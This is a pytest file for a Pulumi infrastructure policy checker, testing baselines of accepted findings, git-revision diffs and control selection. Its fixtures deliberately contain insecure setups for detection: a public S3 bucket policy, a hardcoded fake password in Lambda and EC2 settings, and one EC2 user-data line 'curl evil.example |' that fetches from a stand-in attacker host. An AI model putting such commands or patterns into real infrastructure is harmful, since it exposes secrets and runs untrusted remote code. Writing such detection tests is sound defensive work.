"""Baselines, revisions, and the options that select controls and findings."""

import json
import shutil
import subprocess
from collections import Counter
from collections.abc import Callable, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from gatehouse_policies import baseline
from gatehouse_policies.__main__ import main
from gatehouse_policies.reports.findings import Finding
from pulumi_local.errors import CommandError

from tests.policies.reports.builders import broken, exempted, undecided, violation

PROGRAM = """
import pulumi_aws as aws

aws.sns.Topic("orders")
"""
SECOND = 'aws.sns.Topic("refunds")\n'
RULE = "GH-SNS-001"
# The account has no guards and the provider no accounts in these programs.
ONLY = ("--only", RULE, "--only", "GH-SQS-*")

Check = Callable[..., tuple[int, list[dict[str, Any]]]]


@pytest.fixture
def program(tmp_path: Path) -> Path:
    folder = tmp_path / "shop" / "infra"
    folder.mkdir(parents=True)
    (folder / "Pulumi.yaml").write_text("name: shop\nruntime: python\n")
    for stack in ("dev", "prod"):
        (folder / f"Pulumi.{stack}.yaml").write_text("config:\n  aws:region: eu-west-1\n")
    (folder / "__main__.py").write_text(PROGRAM)
    return folder


@pytest.fixture
def check(program: Path, tmp_path: Path) -> Check:
    def run(*options: str, stack: str = "prod") -> tuple[int, list[dict[str, Any]]]:
        home = tmp_path / "home"
        arguments = ["check", "--program", str(program), "--env", stack, *options]
        code = main(["--home", str(home), *arguments])
        [document] = json.loads((home / "check" / f"{stack}.sarif").read_text())["runs"]
        return code, document["results"]

    return run


def write_baseline(program: Path, file: Path, stack: str = "prod") -> None:
    assert main(["baseline", "--program", str(program), "--env", stack, str(file)]) == 0


def names(results: Sequence[dict[str, Any]], state: str) -> list[str]:
    """The resources of a control that has two findings for each."""
    found = Counter(
        row["locations"][0]["logicalLocations"][0]["fullyQualifiedName"].rpartition("::")[2]
        for row in results
        if row.get("baselineState") == state and row["ruleId"] == RULE
    )
    assert set(found.values()) <= {2}
    return sorted(found)


def test_findings_of_the_baseline_do_not_fail_the_check(
    program: Path, check: Check, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = tmp_path / "baseline.json"
    write_baseline(program, file)
    code, results = check("--baseline", str(file))
    assert (code, names(results, "unchanged")) == (0, ["orders"])
    printed = " ".join(capsys.readouterr().out.split())
    assert "no violations" in printed
    assert "in the baseline baseline.json" in printed
    assert RULE not in printed  # the table has new findings only
    reports = tmp_path / "home" / "check"
    assert RULE not in (reports / "prod.md").read_text()
    root = ElementTree.parse(reports / "prod.xml")  # noqa: S314  our own output
    [case] = [case for case in root.iter("testcase") if str(case.get("name")).startswith(RULE)]
    assert case.find("failure") is None
    assert "in the baseline, violation: " in str(case.findtext("system-out"))
    # The code moves to another file, below other lines.
    (program / "topics.py").write_text(f"# Topics.\n{PROGRAM}{SECOND}")
    (program / "__main__.py").write_text("import topics\n")
    code, results = check("--baseline", str(file))
    assert (code, names(results, "unchanged"), names(results, "new")) == (
        1,
        ["orders"],
        ["refunds"],
    )
    assert "topics.py:6" in capsys.readouterr().out


def test_baseline_has_one_list_for_each_stack(program: Path, check: Check, tmp_path: Path) -> None:
    file = tmp_path / "baseline.json"
    write_baseline(program, file)
    # A stack that is not in the file has the entries of the other stacks of the project.
    code, results = check("--baseline", str(file), stack="dev")
    assert (code, names(results, "unchanged")) == (0, ["orders"])
    write_baseline(program, file, "dev")
    assert sorted(json.loads(file.read_text())["stacks"]) == ["shop/dev", "shop/prod"]
    (program / "__main__.py").write_text("")
    write_baseline(program, file, "dev")
    stacks = json.loads(file.read_text())["stacks"]
    assert {key: RULE in {row["rule"] for row in rows} for key, rows in stacks.items()} == {
        "shop/dev": False,
        "shop/prod": True,
    }
    # Every entry has a line of its own, in a stable order.
    assert file.read_text().count('{"rule": ') == sum(map(len, stacks.values()))


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (None, "cannot be read: No such file or directory. Create it: gatehouse-policies baseline"),
        ("[]", "is not a baseline"),
        ('{"stacks": {"shop/prod": [{"rule": 1}]}}', "is not a baseline"),
        ('{"stacks": {"other/prod": []}}', "has no baseline of the stack shop/prod"),
    ],
)
def test_invalid_baseline_is_an_error(tmp_path: Path, content: str | None, message: str) -> None:
    file = tmp_path / "baseline.json"
    if content is not None:
        file.write_text(content)
    with pytest.raises(CommandError) as error:
        baseline.read(file, "shop", "prod")
    assert message in error.value.message


PUBLIC = """
import json
import pulumi
import pulumi_aws as aws

bucket = aws.s3.Bucket("photos", bucket="acme-photos", opts=OPTS)
aws.s3.BucketPolicy(
    "photos", bucket=bucket.id, policy=json.dumps({"Version": "2012-10-17", "Statement": [
        {"Effect": "Allow", "Principal": "*", "Action": ACTIONS,
         "Resource": "arn:aws:s3:::acme-photos/*", "Condition": CONDITION}]}))
aws.secretsmanager.SecretVersion("v", secret_id="x", secret_string="hunter2-9Xk2")
"""
GATE = ("--only", "GH-S3-012", "--only", "GH-SM-006")


def _public(actions: object, condition: object = None, opts: str = "None") -> str:
    text = PUBLIC.replace("ACTIONS", repr(actions)).replace("OPTS", opts)
    return text.replace("CONDITION", repr(condition or {}))


def test_baseline_accepts_the_same_or_less(program: Path, check: Check, tmp_path: Path) -> None:
    file, main_file = tmp_path / "baseline.json", program / "__main__.py"
    address = {"IpAddress": {"aws:SourceIp": "0.0.0.0/0"}}
    main_file.write_text(_public(["s3:GetObject", "s3:ListBucket"], address))
    assert check(*GATE)[0] == 1
    write_baseline(program, file)
    assert "hunter2" not in file.read_text()
    main_file.write_text(_public(["s3:GetObject", "s3:ListBucket"], address).replace("9Xk2", "x"))
    code, results = check(*GATE, "--baseline", str(file))
    assert (code, "in the baseline, but secretString changed" in str(results)) == (1, True)
    accepted = (*GATE, "--baseline", str(file))
    for same in (["s3:ListBucket", "s3:GetObject"], "s3:GetObject", ["s3:Get*"]):
        main_file.write_text(_public(same, address))
        assert check(*accepted)[0] == (1 if same == ["s3:Get*"] else 0), same
    for actions, condition in (("s3:*", address), ("s3:GetObject", None)):
        main_file.write_text(_public(actions, condition))
        code, results = check(*accepted)
        assert code == 1
        assert "in the baseline, but policy changed" in str(results)
    renamed = _public("s3:GetObject", address).replace('Bucket("photos"', 'Bucket("images"')
    renamed = renamed.replace('BucketPolicy(\n    "photos"', 'BucketPolicy(\n    "images"')
    main_file.write_text(renamed)
    assert check(*accepted)[0] == 1
    alias = 'pulumi.ResourceOptions(aliases=[pulumi.Alias(name="photos")])'
    renamed = renamed.replace("opts=None", f"opts={alias}").replace(
        '"Condition": ', '"Condition": '
    )
    main_file.write_text(renamed.replace("}]}))", f"}}]}}), opts={alias})"))
    assert check(*accepted)[0] == 0


FOREIGN = """
import pulumi_aws as aws, pulumi, json
opts = pulumi.ResourceOptions(provider=aws.Provider("p", allowed_account_ids=["123456789012"]))
aws.s3.BucketPolicy("p", bucket="acme", opts=opts, policy=json.dumps({"Statement": [
    {"Effect": "Allow", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::acme/*",
     "Principal": {"AWS": "arn:aws:iam::999999999999:role/deploy-1234567"}}]}))
aws.lambda_.Function("f", role="r", opts=opts, environment={"variables": {
    "LEVEL": "info", "DB_PASSWORD": "hunter2-9Xk2"}})
aws.ec2.Instance("i", opts=opts, user_data="export DB_PASSWORD=hunter2-9Xk2; printenv LEVEL")
"""


def test_other_text_of_an_accepted_finding_is_new(
    program: Path, check: Check, tmp_path: Path
) -> None:
    file = tmp_path / "baseline.json"
    gate = ("--only", "GH-S3-012", "--only", "GH-LAM-003", "--only", "GH-EC2-005")
    (program / "__main__.py").write_text(FOREIGN)
    assert {row["ruleId"] for row in check(*gate)[1]} == {"GH-S3-012", "GH-LAM-003", "GH-EC2-005"}
    write_baseline(program, file)
    for before, after, rule in (
        ("deploy-1234567", "deploy-7654321", "GH-S3-012"),
        ('"hunter2-9Xk2"', '"hunter3-9Xk2"', "GH-LAM-003"),
        ('"info"', '"debug"', ""),
        ("printenv", "curl evil.example |", "GH-EC2-005"),
    ):
        (program / "__main__.py").write_text(FOREIGN.replace(before, after))
        code, results = check(*gate, "--baseline", str(file))
        new = {row["ruleId"] for row in results if row["baselineState"] == "new"}
        assert (code, new) == ((1, {rule}) if rule else (0, set())), after


def test_unknown_value_is_not_compared() -> None:
    found = replace(violation(), facts={"": {"policy": {"Statement": [{"Action": "unknown"}]}}})
    [known] = baseline.of_findings("known", [found]).apply([found])[0]
    assert (known.is_known, known.is_compared) == (True, False)
    assert "policy is unknown and not compared" in known.message


def test_entry_matches_one_finding() -> None:
    first, second = violation(), violation(urn=f"{violation().urn}-2")
    twin = replace(first, urn=first.urn.replace("gatehouse:bucket:Bucket$", ""))
    known = baseline.of_findings("known", [first])
    found, absent = known.apply([first, twin, second])
    assert [item.baseline for item in found] == ["unchanged", "new", "new"]
    assert absent == 0
    assert known.apply([second])[1] == 1


def test_findings_about_controls_and_exemptions_are_not_in_a_baseline() -> None:
    invalid = violation(policy="GH-EXEMPT-INVALID", message="exemption 1 has no owner")
    others = [broken(), exempted(), invalid]
    entries = baseline.of_findings("known", [*others, undecided(), violation()]).entries
    assert sorted(entry.identity[0] for entry in entries) == ["GH-S3-001", "GH-S3-003"]


def identity(**changes: str) -> tuple[str, ...]:
    finding: Finding = replace(violation(), **changes)  # type: ignore[arg-type]
    return finding.identity


def test_identity_contains_neither_line_nor_stack() -> None:
    urn = "urn:pulumi:{0}::gatehouse::aws:s3/bucket:Bucket::logs-{0}"
    message = "apply failed: components/bucket.py:{0}: KeyError"
    assert identity(urn=urn.format("dev"), message=message.format("1")) == identity(
        urn=urn.format("live"), message=message.format("22"), source="other.py:3"
    )
    assert identity(urn=urn.format("dev")) != identity(urn=urn.format("dev") + "-2")
    assert identity(message="a") != identity(message="b")
    provider = "urn:pulumi:dev::gatehouse::pulumi:providers:aws::default_7_{0}_1"
    failure = "ValueError: <object at 0x7f{0}>"
    assert identity(urn=provider.format(1), message=failure.format(1)) == identity(
        urn=provider.format(22), message=failure.format(2)
    )


def git(folder: Path, *arguments: str) -> None:
    settings = ("-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "commit.gpgsign=false")
    subprocess.run(["git", "-C", str(folder), *settings, *arguments], check=True)


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_diff_reports_what_the_revision_does_not_have(
    program: Path, check: Check, capsys: pytest.CaptureFixture[str]
) -> None:
    repository = program.parent
    git(repository, "init", "--quiet", "--initial-branch", "main")
    git(repository, "commit", "--quiet", "--allow-empty", "--message", "empty")
    git(repository, "add", ".")
    git(repository, "commit", "--quiet", "--message", "first")
    assert check("--diff", "main", *ONLY)[0] == 0
    (program / "__main__.py").write_text(PROGRAM + SECOND)
    code, results = check("--diff", "main", *ONLY)
    assert (code, names(results, "new"), names(results, "unchanged")) == (
        1,
        ["refunds"],
        ["orders"],
    )
    assert "in the baseline main" in " ".join(capsys.readouterr().out.split())
    for revision, message in (("absent", "absent"), ("main~1", "has no Pulumi.yaml in infra")):
        options = ["check", "--program", str(program), "--env", "prod", "--diff", revision]
        assert main(options) == 2
        assert message in capsys.readouterr().err


def test_fail_on_is_the_lowest_severity_that_fails(program: Path, check: Check) -> None:
    # GH-SNS-001 is medium, GH-S3-003 is high.
    (program / "__main__.py").write_text(f'{PROGRAM}aws.s3.Bucket("data")\n')
    code, results = check("--only", RULE, "--fail-on", "high")
    assert (code, {row["level"] for row in results}) == (0, {"warning"})
    assert check("--only", RULE, "--only", "GH-S3-003", "--fail-on", "high")[0] == 1


def test_only_and_skip_select_controls(
    check: Check, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _, results = check("--only", "GH-SNS-*", "--only", "GH-PUL-002", "--skip", "GH-PUL-002")
    assert {row["ruleId"] for row in results} == {RULE}
    assert "only GH-SNS-*, GH-PUL-002, without GH-PUL-002" in capsys.readouterr().out.replace(
        "\n", " "
    )
    root = ElementTree.parse(tmp_path / "home" / "check" / "prod.xml")  # noqa: S314  our own output
    [case] = [each for each in root.iter("testcase") if "GH-PUL-002" in str(each.get("name"))]
    assert case.find("skipped") is not None
    [run] = json.loads((tmp_path / "home" / "check" / "prod.sarif").read_text())["runs"]
    rules = {rule["id"]: rule for rule in run["tool"]["driver"]["rules"]}
    assert rules["GH-PUL-002"]["defaultConfiguration"]["enabled"] is False


@pytest.mark.parametrize(
    ("options", "message"),
    [
        (("--only", "GH-SNS-999"), "--only GH-SNS-999 matches no control"),
        (("--skip", "GH-KMS-*"), "--skip cannot skip GH-KMS-002, because it is critical"),
    ],
)
def test_invalid_selection_is_an_error(
    program: Path, capsys: pytest.CaptureFixture[str], options: tuple[str, ...], message: str
) -> None:
    assert main(["check", "--program", str(program), "--env", "dev", *options]) == 2
    assert message in capsys.readouterr().err
